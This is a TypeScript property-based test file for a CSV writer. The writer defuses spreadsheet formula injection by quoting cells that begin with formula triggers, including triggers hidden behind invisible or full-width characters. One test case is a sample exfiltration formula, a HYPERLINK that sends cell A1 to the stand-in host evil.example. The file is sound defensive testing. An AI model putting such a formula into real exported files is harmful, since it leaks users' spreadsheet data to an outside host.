// The one CSV writer (decision 0115): a text a spreadsheet would run as a formula is written with
// a leading ', whatever whitespace, NBSP, control or format characters stand before its
// = + - @ (or their full-width forms), and a tab or CR there too (OWASP 'CSV Injection'); numbers
// stay numbers; the file reads back to exactly the cells written, and readCsvCell undoes the
// defusing exactly.
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { FORMULA_STARTS, isLive } from "../../../tests/support/spreadsheet";
import { cellText, decimalCell, defuseText, readCsvCell, type CsvRow } from "./csv";
import { csvHeaderText, csvRowsText, csvStream, csvText } from "./csv.server";

/** Characters a spreadsheet may pass over before it looks for a formula's first character. */
const SKIPPABLE = [
  " ",
  "\u00a0", // no-break space
  "\u2003", // em space
  "\u3000", // ideographic space
  "\u202f", // narrow no-break space
  "\u2028", // line separator
  "\n",
  "\u000b",
  "\u0000",
  "\u001f",
  "\u007f",
  "\u0085",
  "\u200b", // zero-width space
  "\u200e", // left-to-right mark
  "\u00ad", // soft hyphen
  "\ufeff",
];
const TAB_OR_CR = ["\t", "\r"];

/** Texts built to start like a formula: skippable characters, quotes, a trigger, anything. */
const hostileText = fc
  .tuple(
    fc.array(fc.constantFrom(...SKIPPABLE, "'"), { maxLength: 4 }),
    fc.constantFrom(...FORMULA_STARTS, ...TAB_OR_CR, "a", "'", "1"),
    fc.string({ unit: "binary", maxLength: 12 }),
  )
  .map(([lead, first, rest]) => `${lead.join("")}${first}${rest}`);
const anyText = fc.oneof(hostileText, fc.string({ unit: "binary", maxLength: 12 }));

const readBack = (text: string) =>
  parse(text, { bom: true, relax_column_count: true }) as string[][];

/** A stream's text with its byte-order mark (Response.text() would drop it). */
async function streamText(stream: ReadableStream<Uint8Array>) {
  const bytes = await new Response(stream).arrayBuffer();
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
}

describe("defusing text", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["\u00a0=1+1", "'\u00a0=1+1"],
    [" \u2003 +1", "' \u2003 +1"],
    ["\u200b@SUM(A1)", "'\u200b@SUM(A1)"],
    ["\u0000-1", "'\u0000-1"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["  \tx", "'  \tx"],
    ["\uff1d1+1", "'\uff1d1+1"],
    ["+27 82 123 4567", "'+27 82 123 4567"],
    ["'=x", "''=x"],
  ])("%j is written %j", (text, written) => {
    expect(defuseText(text)).toBe(written);
    expect(readCsvCell(written)).toBe(text);
  });

  it.each(["Thandi", "a=b", "Camp 1 - north", "'quoted", " leading space", "", "12.50", "'"])(
    "%j is written as it is",
    (text) => {
      expect(defuseText(text)).toBe(text);
      expect(readCsvCell(text)).toBe(text);
    },
  );

  it("no text is written live, and each is itself or itself after a quote", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const written = defuseText(text);
        expect(isLive(written)).toBe(false);
        expect([text, `'${text}`]).toContain(written);
      }),
    );
  });

  it("a text without a formula character anywhere is written as it is", () => {
    const triggers = [...FORMULA_STARTS, ...TAB_OR_CR];
    fc.assert(
      fc.property(
        anyText.filter((text) => !triggers.some((char) => text.includes(char))),
        (text) => {
          expect(defuseText(text)).toBe(text);
        },
      ),
    );
  });

  it("reading a written text back gives exactly the text", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        expect(readCsvCell(defuseText(text))).toBe(text);
      }),
    );
  });
});

describe("numbers", () => {
  it.each([
    [-3.5, "-3.5"],
    [0, "0"],
    [2026, "2026"],
    [-0.25, "-0.25"],
    [Number.NaN, ""],
    [Number.NEGATIVE_INFINITY, ""],
  ])("%s is written %j", (value, written) => {
    expect(cellText(value)).toBe(written);
  });

  it("a decimal keeps its places and its sign", () => {
    expect(cellText(decimalCell(-3.5, 2))).toBe("-3.50");
    expect(cellText(decimalCell(12.345, 2))).toBe("12.35");
    expect(cellText(decimalCell(Number.NaN, 2))).toBe("");
  });

  it("every finite number reads back as the same number", () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        const [[cell]] = readBack(csvRowsText([[value]])) as [[string]];
        // A number literal (a minus sign before digits is a sign, not a formula).
        expect(cell).toMatch(/^-?\d+(\.\d+)?(e[+-]\d+)?$/);
        expect(Number(cell)).toBe(value === 0 ? 0 : value);
      }),
    );
  });

  it("a number written as text is defused: a number is told by its type", () => {
    expect(cellText("-3.5")).toBe("'-3.5");
  });
});

describe("files", () => {
  const cell = fc.oneof(anyText, fc.double(), fc.constant(null));
  const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 6 });

  it("a file reads back as one record per row, each cell as written, no text live", () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 4 }), rows, (header, body) => {
        const text = csvText(header, body);
        expect(text.startsWith("\uFEFF")).toBe(true);
        const records = readBack(text);
        const rows: CsvRow[] = [header, ...body];
        expect(records).toEqual(rows.map((row) => row.map(cellText)));
        rows.forEach((row, r) =>
          row.forEach((cell, c) => {
            if (typeof cell === "string") expect(isLive(records[r]![c]!)).toBe(false);
          }),
        );
      }),
    );
  });

  it("a header and its pages written apart make the same file as written at once", () => {
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 3 }), rows, rows, (h, a, b) => {
        expect(csvHeaderText(h) + csvRowsText(a) + csvRowsText(b)).toBe(csvText(h, [...a, ...b]));
      }),
    );
  });

  it("streams the header, then a page per read, skipping empty pages", async () => {
    async function* pages() {
      yield [["=Cows", 12]];
      yield [];
      yield [["\u00a0-Goats", -3.5]];
    }
    const text = await streamText(csvStream(["herd", "count"], pages()));
    expect(text).toBe("\uFEFFherd,count\n'=Cows,12\n'\u00a0-Goats,-3.5\n");
  });

  it("a stream of no pages is the header alone", async () => {
    async function* pages(): AsyncGenerator<CsvRow[]> {}
    const text = await streamText(csvStream(["herd"], pages()));
    expect(text).toBe("\uFEFFherd\n");
  });
});
